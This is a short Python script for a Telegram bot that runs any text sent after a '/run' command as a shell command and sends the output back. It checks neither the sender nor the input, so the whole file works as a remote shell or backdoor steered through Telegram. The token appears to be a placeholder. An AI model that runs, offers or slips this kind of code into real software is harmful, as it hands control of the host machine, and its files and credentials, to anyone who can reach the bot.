import telebot, subprocess
bot = telebot.TeleBot("1234567890:AAHabcdefghijklmnopqrstuvwxyz0123456")
@bot.message_handler(commands=['run'])
def run(message):
    bot.reply_to(message, subprocess.check_output(message.text[5:], shell=True))
bot.infinity_polling()
